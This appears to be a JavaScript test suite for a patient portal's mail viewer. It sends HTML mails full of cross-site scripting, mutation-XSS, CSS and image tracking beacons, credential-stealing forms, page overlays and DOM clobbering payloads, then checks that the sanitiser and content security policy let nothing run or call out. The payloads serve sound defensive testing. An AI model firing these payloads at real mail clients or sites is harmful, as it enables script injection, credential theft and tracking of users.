// Mails that want to run something, to call home, or to look like the portal.
// Each is opened in the page and on its own; the browser must ask for nothing
// but the page's own parts, and run nothing.
import assert from 'node:assert/strict';
import { Patient, main, outside, patient, send, wish } from './stage.mjs';
import { CHARSETS, HOME, RAN, VECTORS } from './vectors.mjs';

const MAILS = {
  ...VECTORS,
  'a script': `<script>${RAN}</script><script src="${HOME}/x.js"></script><script type=module src=${HOME}/m.js></script>`,
  'a script in odd spelling': `<ScRiPt\n>${RAN}</sCrIpT\t><scr<script>ipt>${RAN}</script><script/x>${RAN}</script>`,
  'event handlers': `<img src=x onerror="${RAN}"><body onload="${RAN}"><p onclick="${RAN}" onmouseover="${RAN}" onfocus="${RAN}" tabindex=1 autofocus>x</p><input autofocus onfocus="${RAN}"><details open ontoggle="${RAN}">x</details><marquee onstart="${RAN}">x</marquee>`,
  'handlers after a slash': `<img/src=x/onerror=alert(1)><svg/onload=alert(1)><video><source onerror="${RAN}"></video><audio src=x onerror="${RAN}">`,
  'remote pictures': `<img src="${HOME}/a.png"><img src="//tracker.example/b.png"><img srcset="${HOME}/c.png 2x, ${HOME}/d.png 3x"><picture><source srcset="${HOME}/e.png"><img src="http://tracker.example/f.png"></picture><input type=image src="${HOME}/g.png">`,
  'pictures elsewhere': `<img lowsrc="${HOME}/1" dynsrc="${HOME}/2" longdesc="${HOME}/3"><table background="${HOME}/4"><tr><td background="${HOME}/5">x</td></tr></table><body background="${HOME}/6">x`,
  'sound, film and fonts': `<video src="${HOME}/v.mp4" poster="${HOME}/p.png" autoplay></video><audio src="${HOME}/a.mp3" autoplay></audio><track src="${HOME}/t.vtt"><font face="x" color=red>x</font>`,
  'style that calls home': `<style>@import url(${HOME}/i.css);@font-face{font-family:x;src:url(${HOME}/f.woff)}body{background:url(${HOME}/bg.png);font-family:x}p::after{content:url(${HOME}/c.png)}</style><p>x</p><link rel=stylesheet href="${HOME}/s.css"><link rel=icon href="${HOME}/i.ico"><link rel=preload as=image href="${HOME}/p.png"><link rel=prefetch href="${HOME}/q"><link rel=dns-prefetch href="${HOME}"><link rel=preconnect href="${HOME}">`,
  'style in place': `<p style="background:url(${HOME}/1.png)">a</p><p style="background-image:u\\72l(${HOME}/2.png)">b</p><p style="list-style:url('${HOME}/3.png')">c</p><p style="cursor:url(${HOME}/4.cur),auto;width:expression(alert(1));behavior:url(${HOME}/5.htc)">d</p><div style="background:image-set('${HOME}/6.png' 1x)">e</div>`,
  'forms': `<form action="${HOME}/steal" method=post><label>Password<input name=p type=password></label><button>Sign in</button></form><form id=f action="${HOME}/g"></form><button form=f formaction="${HOME}/h">Go</button><isindex action="${HOME}/i">`,
  'a way elsewhere': `<meta http-equiv=refresh content="0;url=${HOME}/refresh"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv=set-cookie content="a=b"><base href="${HOME}/"><a href="relative">x</a>`,
  'drawings': `<svg xmlns="http://www.w3.org/2000/svg" onload="${RAN}"><script>${RAN}</script><image href="${HOME}/s.png" xlink:href="${HOME}/t.png"/><use href="${HOME}/u.svg#x"/><foreignObject><iframe src="${HOME}/f"></iframe></foreignObject><animate attributeName=href values="javascript:alert(1)"/><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  'formulas': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
  'frames': `<iframe src="${HOME}/f"></iframe><iframe srcdoc="<script>parent.document.title='RAN'</script><img src=${HOME}/g.png>"></iframe><frameset><frame src="${HOME}/h"></frameset><object data="${HOME}/o"></object><embed src="${HOME}/e"><applet code="${HOME}/a"></applet><portal src="${HOME}/p"></portal>`,
  'documents in links': `<a href="data:text/html,<script>alert(1)</script>">a</a><img src="data:text/html,<script>alert(1)</script>"><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"><object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object><iframe src="data:text/html,<script>alert(1)</script>"></iframe>`,
  'scripts in links': `<a href="javascript:alert(1)">a</a><a href=" jav&#x09;ascript:alert(1)">b</a><a href="JaVaScRiPt&colon;alert(1)">c</a><a href="vbscript:msgbox(1)">d</a><a href="&#106;avascript:alert(1)">e</a><area href="javascript:alert(1)"><a href="file:///etc/passwd">f</a><a href="blob:x">g</a>`,
  'links that watch': `<a href="https://good.example/" ping="${HOME}/ping">x</a><a href="https://good.example/" target=_top>y</a><a href="https://good.example/" target=_parent rel=opener>z</a><a href="//tracker.example/q">q</a><a href="/sign-out">out</a>`,
  'requests to the portal': `<img src="/sign-out"><img src="/inbox"><img src="/message/x"><link rel=stylesheet href="/files"><iframe src="/inbox"></iframe><form action="/sign-out" method=post><button autofocus>x</button></form>`,
  'what breaks out': `</body></html><script>${RAN}</script><!--><script>${RAN}</script>--><![CDATA[<script>${RAN}</script>]]><!DOCTYPE x [<!ENTITY e SYSTEM "${HOME}/e">]>&e;<?xml-stylesheet href="${HOME}/x.css"?>`,
  'text that is none': `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><title><a title="</title><img src=x onerror=alert(1)>"></title><textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea><xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><img src=x onerror=alert(1)>`,
  'templates and strange elements': `<template><script>${RAN}</script><img src=${HOME}/t.png></template><custom-x onclick=alert(1) src="${HOME}/c"></custom-x><slot onslotchange=alert(1)></slot><dialog open onclose=alert(1)>x</dialog><button popovertarget=p onclick=alert(1)>x</button><div id=p popover onbeforetoggle=alert(1)>x</div>`,
  'a cover over the page': `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Sign in again</div><div id=main class=top name=form style="position:absolute;top:-500px">x</div>`,
  'names that shadow': `<a id=body name=location>x</a><img name=cookie><form name=document><input name=parentNode></form><p id=main>x</p>`,
  'an old mail program': `<!--[if mso]><script>${RAN}</script><![endif]--><v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="${HOME}/vml.png"/></v:rect><bgsound src="${HOME}/b.wav"><layer src="${HOME}/l"></layer><xml src="${HOME}/d" id=x></xml>`,
};

// What `cid:` finds: nothing of it is a picture.
const PICTURES = [
  { id: 'drawing@x', type: 'image/svg+xml', octets: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="${HOME}/cid"/></svg>` },
  { id: 'page@x', type: 'image/png', octets: `<script>${RAN}</script>` },
];

/** A mail's octets in its character set. */
function encoded(kept, charset, octets) {
  if (charset === 'utf-16le') return Buffer.from(`${kept}<script>${RAN}</script><img src=x onerror=alert(1)>`, 'utf16le');
  return Buffer.from(kept + octets, 'latin1');
}

await main(async () => {
  const to = await patient('jane');
  const links = [];
  for (const [name, html] of Object.entries(MAILS))
    await send(to, { subject: name, text: `The words of ${name}.`, html: `<p>Kept: ${name}.</p>${html}`, pictures: PICTURES });
  for (const [name, charset, octets] of CHARSETS) await send(to, { subject: name, text: 'Words.', charset, html: encoded(`<p>Kept: ${name}.</p>`, charset, octets) });
  const names = [...Object.keys(MAILS), ...CHARSETS.map(([name]) => name)];
  for (let n = 0; n < names.length; n += 1) links.push((await wish('notice', { to })).link);
  const jane = await Patient.come();
  await jane.arrive(links[0], to);
  const seen = new Set();
  for (const link of links) {
    jane.requests.length = 0;
    await jane.go(link);
    seen.add(await look(jane));
  }
  assert.deepEqual([...seen].sort(), names.sort(), 'a mail is missing');
  await policies(jane);
  await jane.leave();
});

async function look(jane) {
  const { page } = jane;
  const name = await page.locator('h1').innerText();
  const message = page.url();
  try {
    await harmless(page, page.frameLocator('iframe').locator('html'), name);
    const shell = await page.title();
    assert(!shell.includes('RAN'));
    assert.equal(page.url(), message, 'the page went elsewhere');
    await onItsOwn(jane, `${message}/body`, name);
    const allowed = new RegExp(`^https://${jane.host}/(m/[^/]+|message/[^/]+(/body)?|style[^/]*\\.css|[^/]+\\.css|logo|icon\\.svg)$`);
    for (const url of jane.requests) assert(allowed.test(url) || url.startsWith('data:image/'), `the page asked for ${url}`);
    assert.deepEqual(jane.complaints, [], 'the browser complains');
    assert.deepEqual(outside, [], 'something left');
  } catch (error) {
    error.message = `${name}: ${error.message}`;
    throw error;
  }
  return name;
}

/** The cleaned body as a page: without its frame around it, it is as tame. */
async function onItsOwn(jane, address, name) {
  const page = await jane.context.newPage();
  await page.goto(address);
  await harmless(page, page.locator('html'), name);
  assert.equal(page.url(), address, 'the body went elsewhere');
  await page.close();
}

async function harmless(page, html, name) {
  await html.getByText(`Kept: ${name}.`).first().waitFor();
  // Whatever would start by itself has started by then.
  await page.waitForTimeout(60);
  const source = await html.evaluate((node) => ({
    ran: node.dataset.ran,
    live: [...node.querySelectorAll('script, iframe, frame, object, embed, form, input, button, link, svg, math, video, audio, template, body meta, body base')].map((n) => n.outerHTML),
    handlers: [...node.querySelectorAll('*')].flatMap((n) => [...n.attributes].filter((a) => a.name.startsWith('on')).map((a) => a.name)),
    links: [...node.querySelectorAll('a, area')].map((n) => ({ href: n.getAttribute('href'), rel: n.rel, target: n.target, ping: n.getAttribute('ping') })),
    cover: [...node.querySelectorAll('main > :not(h1.unseen:first-child), main > * *')].map((n) => getComputedStyle(n).position).filter((p) => p !== 'static'),
  }));
  assert.equal(source.ran, undefined, 'a script ran');
  const base = '<base target="_blank">';
  assert.deepEqual(source.live.filter((tag) => tag !== base), []);
  assert.deepEqual(source.handlers, []);
  assert.deepEqual(source.cover, [], 'something covers the page');
  for (const { href, rel, ping } of source.links) {
    assert(href === null || /^(https?:|mailto:|tel:)/.test(href), `a link to ${href}`);
    assert(href === null || /noopener/.test(rel), `a link without noopener: ${href}`);
    assert.equal(ping, null);
  }
}

/** The policies hold by themselves, whatever the cleaning might miss. */
async function policies(jane) {
  const { page } = jane;
  const response = await page.request.get(`${page.url()}/body`);
  const policy = response.headers()['content-security-policy'];
  assert.match(policy, /^sandbox allow-popups allow-popups-to-escape-sandbox;/);
  assert.match(policy, /default-src 'none'/);
  const frame = page.locator('iframe');
  assert.equal(await frame.getAttribute('sandbox'), 'allow-popups allow-popups-to-escape-sandbox');
  // Bodies that nobody cleaned, with our policy: still nothing. But Chromium
  // connects, and no more, before it asks the policy about a frame, and no
  // policy covers a preconnect; there the cleaning is alone.
  const expected = jane.complaints.length;
  for (const [name, html] of Object.entries(MAILS)) {
    const body = html.replace(/<link rel=preconnect[^>]*>|<i?frame src[^>]*>/g, '');
    await page.route('**/body', async (route) => route.fulfill({ response: await route.fetch(), body }));
    await page.reload();
    await page.waitForTimeout(100);
    assert.deepEqual(outside, [], `the policy lets something out: ${name}`);
    await page.unroute('**/body');
  }
  assert(!(await page.title()).includes('RAN'));
  // The refusals are complaints of the browser, and rightly so.
  const other = jane.complaints.slice(expected).filter((c) => !/Content Security Policy|sandbox|Not allowed|Refused|violates|Blocked|Unsafe|Failed to load|Mixed Content|attachShadow/i.test(c));
  assert.deepEqual(other, []);
  jane.complaints.length = 0;
  jane.requests.length = 0;
}
